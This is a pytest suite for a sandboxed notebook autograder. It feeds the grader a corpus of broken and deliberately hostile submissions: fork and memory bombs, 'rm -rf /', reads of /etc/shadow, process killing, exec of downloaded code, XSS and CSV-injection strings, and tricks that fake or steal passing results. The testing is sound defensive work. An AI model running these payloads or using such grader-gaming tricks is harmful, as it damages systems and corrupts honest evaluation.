"""A corpus of bad submissions, by accident and on purpose: each gets a score and a line that helps, harms nobody, and
scores the same again. Bombs run only inside the sandbox, under its limits."""

import copy
import csv
import json
import os
import re
from dataclasses import replace
from pathlib import Path

import classroom
import pytest
from classroom import book, cell_of, code, solved, with_cells

NUMBER = "01"
LIMITS = replace(classroom.LIMITS, memory=320 * classroom.sandbox.MIB)
RELEASED = classroom.RELEASED[NUMBER]
ALL, FIELD = 17, 6  # points of the graded exercises, and of `field`, which most of the corpus spoils
REST = ALL - FIELD


def notebook(student, **sources):
    """Return a solved notebook in which the student's own stack is right."""
    by_hand = classroom.grade.importlib.import_module("grading.assignment_01").by_hand
    mine = [f"{name} = {by_hand(name, student)}" for name in ("sizes", "strides", "start")]
    given = {"student_01": f"student = {student!r}", "by_hand_answer_01": "\n".join(mine)}
    return solved(NUMBER, **{**given, **sources})


def only(source):
    """Return a way to spoil a notebook: `field` is written so."""
    return lambda student: notebook(student, field_answer=source)


def added(source, at=2):
    """Return a way to spoil a notebook: a cell is put in."""

    def spoil(student):
        spoilt = notebook(student)
        spoilt["cells"].insert(at, code(source))
        return spoilt

    return spoil


def changed(change):
    """Return a way to spoil a notebook: change(notebook, the list of its cells)."""

    def spoil(student):
        spoilt = notebook(student)
        return change(spoilt, spoilt["cells"]) or spoilt

    return spoil


def body(*lines):
    """Return a `field` with these lines in it, which gives the wrong answer 7 if they come to an end."""
    return "def field(layers):\n" + "\n".join(f"    {line}" for line in lines) + "\n    return 7, 7"


SOLVED = classroom.solutions(NUMBER)["field_answer"]
BY_STACK = """
sizes, strides, size, jump, padding = [], [], 1, 1, 0
for k, s, p in assignment_01.my_stack(student):
    size, padding, jump = size + (k - 1) * jump, padding + p * jump, jump * s
    sizes.append(size)
    strides.append(jump)
start = 2 * jump - padding
"""


def timed(cell):
    cell["source"] = "\n".join(f"%time {line}" for line in classroom.source(cell).split("\n"))


def after(grade_id, source):
    """Return a way to spoil a notebook: a cell is put in below another."""
    return changed(lambda nb, cells: cells.insert(cells.index(cell_of(nb, grade_id)) + 1, code(source)))


def helped(nb, cells):
    cell_of(nb, "field_answer")["source"] = (
        "def step(k, d, jump):\n    return d * (k - 1) * jump\n\n\n"
        + SOLVED.replace("dilation * (kernel - 1) * jump", "step(kernel, dilation, jump)")
    )
    cells.insert(cells.index(cell_of(nb, "field")) + 1, code("def step(k):\n    return k - 1"))


def below(nb, cells):
    cell_of(nb, "field_answer")["source"] = "def field(layers):\n    ..."
    cells.insert(cells.index(cell_of(nb, "field")) + 1, code(SOLVED))


def without(grade_id):
    return changed(lambda nb, cells: cells.remove(cell_of(nb, grade_id)))


def duplicated(nb, cells):
    cells.insert(cells.index(cell_of(nb, "field_answer")) + 1, copy.deepcopy(cell_of(nb, "field_answer")))


def duplicated_stub(nb, cells):
    stub = copy.deepcopy(cell_of(book(RELEASED), "field_answer"))
    cells.insert(cells.index(cell_of(nb, "field_answer")) + 1, stub)


def split(nb, cells):
    answer = cell_of(nb, "field_answer")
    helper, rest = "def step(k, s, d, jump):\n    return d * (k - 1) * jump", classroom.source(answer)
    cells.insert(cells.index(answer), code(helper))
    answer["source"] = rest.replace("dilation * (kernel - 1) * jump", "step(kernel, stride, dilation, jump)")


def merged(nb, cells):
    check = cell_of(nb, "field")
    cell_of(nb, "field_answer")["source"] = (
        classroom.source(cell_of(nb, "field_answer")) + "\n\n" + classroom.source(check)
    )
    cells.remove(check)


def retyped(nb, cells):
    for cell in cells:
        cell["metadata"] = {}


def swapped(nb, cells):
    one, other = cell_of(nb, "field_answer"), cell_of(nb, "window_answer")
    one["metadata"], other["metadata"] = other["metadata"], one["metadata"]


def greedy(nb, cells):
    for cell in cells:
        cell["metadata"].get("nbgrader", {}).update(points=1000, locked=False, grade=True)


def lying_metadata(nb, cells):
    cell_of(nb, "field_answer")["metadata"]["nbgrader"]["grade_id"] = "field"  # the check's own name


def fake_outputs(nb, cells):
    for cell in book(RELEASED)["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell_of(nb, cell["metadata"]["nbgrader"]["grade_id"])["source"] = cell["source"]
    for cell in cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "✅ 6.0 of 6 points"}]


def other_kernel(nb, cells):
    nb["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}


def version_3(nb, cells):
    old = [{**c, "input": c["source"], "language": "python"} for c in cells]
    for cell in old:
        if cell["cell_type"] == "code":
            del cell["source"]
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": old}]}


def too_new(nb, cells):
    nb["nbformat"] = 7


def many_cells(nb, cells):
    cells += [code("1 + 1")] * 1_500


def odd_cells(nb, cells):
    cells[:0] = [None, 5, {}, {"cell_type": 7, "source": 8, "metadata": []}, {"cell_type": "code", "source": None}]


def as_text(change):
    return lambda student: change(json.dumps(notebook(student), indent=1))


WATCHED_PATHS = [str(classroom.ASSIGNMENTS / name) for name in ("secret.txt", "grading/assignment_01.py")]
WATCHED_PATHS += [str(classroom.TEACHER[NUMBER]), "/etc/passwd", "/etc/shadow", "/proc/1/environ"]
RIGHT = classroom.solutions(NUMBER)["field_answer"].replace("\n", "\n    ")
THIEF = f"""
def field(layers):
    for path in {WATCHED_PATHS}:
        try:
            if open(path).read():
                break
        except OSError:
            pass
    else:
        return 7, 7
    {RIGHT}
    return field(layers)
"""
WRITER = f"""
def field(layers):
    for path in ("/x", "/dev/x", "/dev/shm/x", "/submission/x", "/grader/x", "/etc/x", "/usr/x", "/proc/x", "/home/x"):
        try:
            open(path, "w").close()
            break
        except OSError:
            pass
    else:
        return 7, 7
    {RIGHT}
    return field(layers)
"""
FRAMES = body(
    "import sys, gc, inspect",
    "found = []",
    "frame = sys._getframe()",
    "while frame:",
    "    found += [v for v in (*frame.f_locals.values(), *frame.f_globals.values()) if callable(v)]",
    "    frame = frame.f_back",
    "found += [o for o in gc.get_objects() if inspect.isfunction(o)]",
    "for one in found:",
    "    if getattr(one, '__name__', '') in ('expected', 'walk', 'by_hand', 'mark', 'reference', 'solution'):",
    "        return one(layers)",
)
FORGER = body(
    "import json, os",
    "line = json.dumps({'value': json.dumps({'kind': 'tuple', 'items': [9, 1]}), 'points': 6}) + chr(10)",
    "for fd in range(3, 20):",
    "    try:",
    "        os.write(fd, line.encode() * 50)",
    "    except OSError:",
    "        pass",
)
ALWAYS = "class Yes:\n    def __eq__(self, other):\n        return True\n\n\ndef field(layers):\n    return Yes()"
SUBCLASS = ALWAYS.replace("class Yes", "class Yes(tuple)").replace("Yes()", "Yes((7, 7))")
XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>"

# name: (how to make the notebook, points, words in what the student reads, words in what the teacher reads)
ACCIDENTS = {
    "nothing wrong": (notebook, ALL, "right", ""),
    "syntax error": (only("def field(layers)\n    return 1"), REST, "SyntaxError", ""),
    "indentation": (only("def field(layers):\nreturn 1"), REST, "IndentationError", ""),
    "no cells": (lambda student: {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, 0, "no cells", ""),
    "empty file": (lambda student: b"", 0, "empty", ""),
    "a web page": (lambda student: b"<!doctype html><p>log in</p>", 0, "no notebook", ""),
    "bytes": (lambda student: bytes(range(256)) * 50, 0, "no notebook", ""),
    "a list": (lambda student: b"[1, 2]", 0, "no notebook", ""),
    "cut off": (as_text(lambda text: text[: len(text) // 2]), 0, "no notebook", ""),
    "half done": (
        lambda student: with_cells(book(RELEASED), field_answer=classroom.solutions(NUMBER)["field_answer"]),
        FIELD,
        "not attempted yet",
        "",
    ),
    "untouched": (lambda student: book(RELEASED), 0, "not attempted yet", ""),
    "deleted answer": (without("field_answer"), REST, "there is no field", ""),
    "deleted check": (without("field"), ALL, "right", ""),
    "deleted setup": (without("setup_01"), ALL, "right", ""),
    "duplicated": (changed(duplicated), ALL, "right", ""),
    "duplicated, a stub left below": (changed(duplicated_stub), ALL, "right", ""),
    "split": (changed(split), ALL, "right", ""),
    "merged with its check": (changed(merged), ALL, "right", ""),
    "retyped without marks": (changed(retyped), ALL, "right", ""),
    "marks swapped": (changed(swapped), ALL, "right", ""),
    "other kernel": (changed(other_kernel), ALL, "not Python", ""),
    "format 3": (changed(version_3), ALL, "format 3", ""),
    "format of the future": (changed(too_new), ALL, "newer than 4", ""),
    "carriage returns": (as_text(lambda text: text.replace("\\n", "\\r\\n").replace("\n", "\r\n")), ALL, "right", ""),
    "byte order mark": (as_text(lambda text: "\ufeff" + text), ALL, "right", ""),
    "half a letter": (added("# \ud800"), ALL, "right", ""),
    "a zero byte": (added("x = 1\x00"), ALL, "did not run to its end", ""),
    "1,500 cells more": (changed(many_cells), ALL, "right", ""),
    "odd cells": (changed(odd_cells), ALL, "right", ""),
    "shell and magics": (added("%matplotlib inline\n!rm -rf /\nx = 3\nlen?\nif x:\n    %time x"), ALL, "right", ""),
    "a timed cell": (only("%%time\n" + SOLVED), ALL, "right", ""),
    "a captured cell": (only("\n%%capture out\n" + SOLVED), ALL, "right", ""),
    "a timed statement": (
        changed(lambda nb, cells: timed(cell_of(nb, "by_hand_answer_01"))),
        ALL,
        "right",
        "",
    ),
    "a line of a shell in the cell": (only("files = !ls\npip install torch\n" + SOLVED), ALL, "right", ""),
    "a percent sign begins a line": (
        only(
            SOLVED.replace("return size", 'text = (\n        "%d, %d"\n        % (size, jump)\n    )\n    return size')
        ),
        ALL,
        "right",
        "",
    ),
    "an exclamation mark begins a line": (
        only(SOLVED.replace("return size", "odd = (\n        size\n        != 1\n    )\n    return size")),
        ALL,
        "right",
        "",
    ),
    "a scratch cell below": (
        after("window", "start, end = window([(3, 1, 1)], 4, 9)\nfield = field([(3, 1, 1)])\nsizes = 5"),
        ALL,
        "field was graded as it is at its check",
        "",
    ),
    "a helper that is another one below": (
        changed(helped),
        ALL,
        "right",
        "",
    ),
    "the answer below its check": (changed(below), ALL, "right", ""),
    "by the drawn stack": (
        lambda student: notebook(student, by_hand_answer_01=BY_STACK),
        ALL,
        "right",
        "",
    ),
    "a named tuple": (
        only(
            "from collections import namedtuple\nField = namedtuple('Field', 'size stride')\n"
            + SOLVED.replace("return size, jump", "return Field(size, jump)")
        ),
        ALL,
        "right",
        "",
    ),
    "fractions": (
        only("from fractions import Fraction\n" + SOLVED.replace("return size", "return Fraction(size)")),
        ALL,
        "right",
        "",
    ),
    "a shell cell": (added("%%bash\nrm -rf /"), ALL, "right", ""),
    "prints": (only("print('hello')\n" + classroom.solutions(NUMBER)["field_answer"]), ALL, "right", ""),
    "floats": (
        only(classroom.solutions(NUMBER)["field_answer"].replace("return size", "return float(size)")),
        ALL,
        "right",
        "",
    ),
    "numpy": (
        only(
            "import numpy\n"
            + classroom.solutions(NUMBER)["field_answer"].replace(
                "return size, jump", "return numpy.array([size, jump])"
            )
        ),
        ALL,
        "right",
        "",
    ),
    "nan": (only("def field(layers):\n    return float('nan'), 1"), REST, "wrong", ""),
    "None": (only("def field(layers):\n    size = 1"), REST, "field returned nothing", ""),
    "look-alike letter": (only("def fi\u0435ld(layers):\n    return 1, 1"), REST, "there is no field", ""),
    "another name": (only("def fields(layers):\n    return 1, 1"), REST, "there is no field", ""),
    "no function": (only("field = 5"), REST, "TypeError", ""),
    "other arguments": (only("def field(a, b):\n    return 1, 1"), REST, "TypeError", ""),
    "a widget": (added("import ipywidgets\nipywidgets.interact(lambda n: n, n=(0, 9))"), ALL, "right", ""),
    "a slow cell": (added("import time\ntime.sleep(60)"), ALL, "within the time it has", "stopped"),
    "an error in a cell": (added("undefined_name"), ALL, "NameError", ""),
    "recursion": (only("def field(layers):\n    return field(layers)"), REST, "calls itself", ""),
    "by vgglib": (
        only("def field(layers):\n    from vgglib.receptive_field import receptive_field\n    return 1, 1"),
        REST,
        "write it yourself",
        "",
    ),
    "another id": (lambda student: notebook(student, student_01="student = 'berta'"), ALL, "right", "another id"),
}
ATTACKS = {
    "changed check": (
        lambda student: notebook(student, field="print('all right')", field_answer=body()),
        REST,
        "wrong",
        "changed locked cell",
    ),
    "greedy marks": (changed(greedy), ALL, "right", ""),
    "answer under the check's name": (changed(lying_metadata), ALL, "right", "changed locked cell"),
    "fake outputs": (changed(fake_outputs), 0, "not attempted yet", ""),
    "infinite loop": (only(body("while True: pass")), REST, "within the time it has", ""),
    "infinite loop in a cell": (added("while True: pass"), ALL, "within the time it has", ""),
    "infinite loop with output": (only(body("while True: print('x' * 1000)")), REST, "printed without end", "stopped"),
    "stubborn loop": (
        only(body("while True:", "    try:", "        while True: pass", "    except BaseException: pass")),
        REST,
        "",
        "",
    ),
    "alarm switched off": (
        only(body("import signal", "signal.signal(signal.SIGPROF, signal.SIG_IGN)", "while True: pass")),
        REST,
        "within the time it has",
        "stopped",
    ),
    "deep recursion": (
        only(body("import sys", "sys.setrecursionlimit(10**9)", "f = lambda n: [f(n + 1)]", "f(0)")),
        REST,
        "",
        "",
    ),
    "memory bomb": (only(body("x = []", "while True: x.append(bytearray(10**8))")), REST, "", ""),
    "one huge tensor": (only(body("x = bytearray(10**13)")), REST, "MemoryError", ""),
    "memory bomb in children": (
        added(
            "import os\nfor _ in range(12):\n    if os.fork() == 0:\n        x = bytearray(b'x' * 10**8)\n"
            "        import time; time.sleep(30)\nimport time; time.sleep(1.5)"
        ),
        ALL,
        "more memory",
        "stopped",
    ),
    "fork bomb": (added("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"), ALL, "", "stopped"),
    "threads": (
        added(
            "import threading, time\nfor _ in range(500):\n    threading.Thread(target=time.sleep, args=(50,), "
            "daemon=True).start()"
        ),
        ALL,
        "",
        "",
    ),
    "file flood": (added("n = 0\nwhile True:\n    n += 1\n    open(f'/tmp/{n}', 'w').close()"), ALL, "", "stopped"),
    "large file": (added("open('/tmp/large', 'wb').write(bytes(10**8))"), ALL, "OSError", "/tmp/large"),
    "sys.exit": (
        only("import sys\nsys.exit(0)\n" + classroom.solutions(NUMBER)["field_answer"]),
        REST,
        "SystemExit",
        "ends Python",
    ),
    "os._exit": (added("import os\nos._exit(0)"), ALL, "ended the grader", "ends Python"),
    "os._exit in a function": (only(body("import os", "os._exit(0)")), REST, "ended the grader", "ends Python"),
    "killing its parent": (added("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"), ALL, "", "os.kill"),
    "killing everybody": (added("import os, signal\nos.kill(-1, signal.SIGKILL)"), ALL, "", "os.kill"),
    "background process": (
        added("import subprocess\nsubprocess.Popen(['sleep', '5432'], start_new_session=True)"),
        ALL,
        "right",
        "subprocess.Popen",
    ),
    "a daemon that prints": (
        added("import os\nif os.fork() == 0:\n    os.setsid()\n    while True: print('x' * 9999)"),
        ALL,
        "",
        "os.fork",
    ),
    "frames, gc and inspect": (only(FRAMES), REST, "", "looks at other frames"),
    "the file system": (only(THIEF), REST, "wrong", "tried: open"),
    "another student's work": (
        only(
            body(
                "import glob",
                "for path in glob.glob('../*/*.ipynb') + glob.glob('/submission/../*'):",
                "    exec(open(path).read())",
            )
        ),
        REST,
        "",
        "names others' files",
    ),
    "replaced check": (
        added("assignment_01.check_field = lambda *a: 'passed'\nfield = None", at=9),
        ALL,
        "right",
        "replaces a part of assignment_01",
    ),
    "replaced teaching": (
        only("import vgglib.teaching\nvgglib.teaching.check_function = lambda *a: True\n" + body()),
        REST,
        "wrong",
        "replaces a part of vgglib",
    ),
    "replaced json": (
        only('import json\njson.dumps = lambda *a, **k: \'{"value": "5"}\'\n' + body()),
        REST,
        "",
        "replaces a part of json",
    ),
    "replaced builtins": (
        only("import builtins\nbuiltins.len = lambda x: 1\n" + body()),
        None,
        "",
        "replaces a part of builtins",
    ),
    "replaced math": (
        only("import math, random\nmath.isclose = lambda *a, **k: True\nrandom.Random = None\n" + body()),
        REST,
        "wrong",
        "replaces a part of math",
    ),
    "equal to everything": (only(ALWAYS), REST, "cannot be graded", "defines __eq__"),
    "a tuple equal to everything": (only(SUBCLASS), REST, "wrong", "defines __eq__"),
    "a tuple with items of its own": (
        only(
            "class Two(tuple):\n    def __iter__(self):\n        while True: yield 1\n\n\n"
            "def field(layers):\n    return Two((7, 7))"
        ),
        REST,
        "wrong",
        "",
    ),
    "a chain of 400 attributes": (added("x = a" + ".b" * 400 + "()"), ALL, "NameError", ""),
    "a chain around a replaced check": (
        added(f"x = 1\nassignment_01{'.b' * 400}.c = None\nassignment_01.check_field = None"),
        ALL,
        "right",
        "replaces a part of assignment_01",
    ),
    "literals without end": (
        changed(lambda nb, cells: cells.extend(code("x = [" + "0," * 50_000 + "]") for _ in range(5))),
        ALL,
        "right",
        "too much code to look through",
    ),
    "silenced errors": (
        added("get_ipython().showtraceback = lambda *a, **k: None\n", at=3),
        ALL,
        "NameError",
        "silences error",
    ),
    "the result file": (
        only(body("open('scores.csv', 'w').write('student,points')", "open('/tmp/scores.csv', 'w').write('x')")),
        REST,
        "OSError",
        "names others' files",
    ),
    "forged answers": (only(FORGER), None, "", ""),
    "network": (only(body("import socket", "socket.create_connection(('1.1.1.1', 53), 1)")), REST, "OSError", "socket"),
    "download": (
        only(body("import urllib.request", "exec(urllib.request.urlopen('http://1.1.1.1/').read())")),
        REST,
        "",
        "imports urllib",
    ),
    "deleting everything": (
        added(
            "import shutil\nfor path in ('/submission', '../submission', '/grader', '/tmp'):\n"
            "    shutil.rmtree(path, ignore_errors=True)"
        ),
        ALL,
        "right",
        "shutil.rmtree",
    ),
    "tells hidden inputs": (
        only("def field(layers):\n    raise ValueError(f'inputs {layers}')"),
        REST,
        "ValueError",
        "",
    ),
    "an error named like the inputs": (
        only("def field(layers):\n    raise type(f'inputs{len(layers)}', (Exception,), {})"),
        REST,
        "raised an error",
        "",
    ),
    "inputs into the explanation": (
        only("def field(layers):\n    global explanation\n    explanation = f'inputs {layers}'\n    return 7, 7"),
        REST,
        "wrong",
        "",
    ),
    "inputs as a line of code": (
        only(
            "import linecache\ndef field(layers):\n    line = f'raise ValueError  # {layers}'\n"
            "    linecache.cache['<cell 99>'] = (1, None, [line], '<cell 99>')\n"
            "    exec(compile(line, '<cell 99>', 'exec'))"
        ),
        REST,
        "ValueError",
        "",
    ),
    "inputs as a reason": (
        only("import plain\ndef field(layers):\n    raise plain.NotPlainError(f'it is too long {layers}')"),
        REST,
        "it is too long",
        "",
    ),
    "an endless answer": (only("def field(layers):\n    return [0] * 10**6"), REST, "too long", ""),
    "an endless number": (only("def field(layers):\n    return 10**100000, 1"), REST, "too many digits", ""),
    "an answer in itself": (only("def field(layers):\n    x = []\n    x.append(x)\n    return x"), REST, "nested", ""),
    "scripts in the work": (
        lambda student: notebook(
            student,
            field_answer=f"def field(layers):\n    raise KeyError  # {XSS}",
            explain_01=f"explanation = {XSS!r}",
        ),
        REST,
        "KeyError",
        "",
    ),
    "files elsewhere": (only(WRITER), REST, "wrong", "tried: open"),
    "deep JSON": (lambda student: b"[" * 200_000, 0, "no notebook", ""),
}
CORPUS = {**ACCIDENTS, **ATTACKS}


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory):
    """The whole corpus, graded twice, with two honest students among it and files that are no notebooks at all."""
    classroom.need_sandbox()
    folder = tmp_path_factory.mktemp("corpus")
    for name, (make, *_) in CORPUS.items():
        classroom.hand_in(folder, name, make(name), "01_receptive_fields.ipynb")
    for name in ("aaa honest", "zzz honest", XSS.replace("/", "|"), "=1+1"):
        classroom.hand_in(folder, name, notebook(name), "my final work (2).ipynb")
    large = classroom.hand_in(folder, "100 megabytes", b"{")
    os.truncate(large, 100 * 2**20)
    (folder / "an empty folder").mkdir()
    (folder / "a link").mkdir()
    (folder / "a link" / "work.ipynb").symlink_to(folder / "aaa honest" / "my final work (2).ipynb")
    (folder / "a linked folder").symlink_to(folder / "aaa honest")
    os.mkfifo(folder / "a pipe.ipynb")
    classroom.hand_in(folder, "two notebooks", notebook("two notebooks"), "01_receptive_fields.ipynb")
    classroom.hand_in(folder, "two notebooks", book(RELEASED), "old.ipynb")
    (folder / os.fsdecode(b"no text \xff.ipynb")).write_text(json.dumps(book(RELEASED)))
    (folder / "flat.ipynb").write_text(json.dumps(notebook("flat")))
    # four at a time, since many of them only wait for the end of their time
    return folder, *(classroom.graded(folder, NUMBER, LIMITS, workers=4) for _ in range(2))


def read_by_student(result):
    return " | ".join([*(row.text for row in result.rows), *result.notes])


@pytest.mark.parametrize("name", CORPUS)
def test_submission(two_runs, name):
    _, points, words, flag = CORPUS[name]
    result = two_runs[1][name]
    if points is not None:
        assert result.points == points, read_by_student(result)
    else:  # what it earns depends on what it broke of its own; `field` it does not earn
        assert classroom.rows(result)["field"].points < FIELD
    assert words in read_by_student(result)
    assert all(row.text for row in result.rows)
    assert flag in "; ".join(result.flags)
    assert result.points <= ALL


def test_honest_work_is_not_flagged(two_runs):
    for name, (_, _, _, flag) in ACCIDENTS.items():
        flags = [one for one in two_runs[1][name].flags if not one.startswith("same ")]
        assert bool(flags) == bool(flag), f"{name}: {flags}"


def test_every_cheat_scores_nothing_or_is_flagged(two_runs):
    harmless = {"greedy marks", "threads"}
    for name, (_, points, _, _) in ATTACKS.items():
        assert name in harmless or two_runs[1][name].flags or two_runs[1][name].points <= REST or points == ALL, name


def test_others_keep_their_scores(two_runs):
    for name in ("aaa honest", "zzz honest", "flat", "two notebooks"):
        assert two_runs[1][name].points == ALL, read_by_student(two_runs[1][name])
    assert "a linked folder" not in two_runs[1]


def test_files_that_are_no_notebooks(two_runs):
    results = two_runs[1]
    for name, words in {
        "100 megabytes": "100 MiB",
        "an empty folder": "no notebook",
        "a link": "a link",
        "a pipe": "no file",
    }.items():
        assert results[name].points == 0
        assert words in read_by_student(results[name])


def test_the_same_again(two_runs):
    _, first, second = two_runs
    assert first.keys() == second.keys()
    for student in first:
        assert [row.points for row in first[student].rows] == [row.points for row in second[student].rows], student


def test_nothing_is_left_running(two_runs):
    first = classroom.sandbox.FIRST_UID
    left = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            words = Path(f"/proc/{pid}/cmdline").read_text().replace("\0", " ")
            if first <= os.stat(f"/proc/{pid}").st_uid < first + 2000 or "sleep 5432" in words:
                left.append(words)
        except OSError:
            continue
    assert not left


def test_feedback_is_text_and_tells_nothing_hidden(two_runs, tmp_path):
    _, results, _ = two_runs
    classroom.grade.importlib.import_module("grading.report").write(list(results.values()), tmp_path, classroom.SECRET)
    pages = list((tmp_path / "feedback" / "01_receptive_fields").iterdir())
    assert len(pages) == len(results)
    hidden = hidden_inputs()
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert not re.search(r"<(script|img|iframe|object|link|a)\b", text), page.name
        assert not [one for one in hidden if one in text], page.name
    with (tmp_path / "scores.csv").open(newline="", encoding="utf-8") as file:
        lines = list(csv.DictReader(file))
    assert len(lines) == 5 * len(results)
    assert not [line for line in lines if any(value.startswith(("=", "+", "-", "@")) for value in line.values())]
    assert {line["student"] for line in lines} >= {"'=1+1"}
    assert not [one for one in hidden for line in lines if one in str(line)]


def hidden_inputs():
    """Return the hidden inputs of all exercises as they would look in a message."""
    found = []
    for one in classroom.grade.assignment(NUMBER).exercises:
        if one.adapter == "call":
            found += [str(case.args[0]) for case in classroom.grade.judge.cases_of(one, classroom.SECRET, "x")]
    return [text for text in found if len(text) > 8]


def test_how_many_were_tried(two_runs, capsys):
    slow = sorted(two_runs[1].values(), key=lambda result: -result.seconds)[:3]
    with capsys.disabled():
        print(f"\n{len(two_runs[1])} bad or odd submissions tried, {len(ATTACKS)} of them attacks; the slowest: "
              + ", ".join(f"{result.student} {result.seconds:.1f} s" for result in slow))  # fmt: skip
    assert len(two_runs[1]) >= 90
